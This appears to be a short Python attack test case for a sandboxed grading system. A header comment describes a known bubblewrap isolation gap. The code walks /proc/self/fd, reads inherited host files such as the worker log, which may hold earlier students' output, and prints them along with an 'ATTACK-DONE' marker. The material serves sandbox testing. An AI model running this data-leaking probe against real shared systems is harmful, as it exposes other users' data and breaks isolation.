# Reopens, through /proc/self/fd, the host files the kernel inherited (its stdout and stderr: the worker's log, OUT/.work/worker-<pid>.log) to read what earlier students' kernels wrote there and to write into it; NOT stopped: bubblewrap passes the worker's stdout/stderr to the kernel (a known gap, see the xfail test).
# %%
import json
import os

READ = {}
for fd in sorted(os.listdir("/proc/self/fd"), key=int):
    try:
        link = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if not link.startswith("/") or link in READ:
        continue
    try:
        with open(f"/proc/self/fd/{fd}", "rb") as handle:
            READ[link] = handle.read(200_000).decode(errors="replace")
    except OSError as exc:
        READ[link] = f"refused: {type(exc).__name__}"
print("INHERITED", json.dumps(READ)[:60_000])
print("ATTACK-DONE")
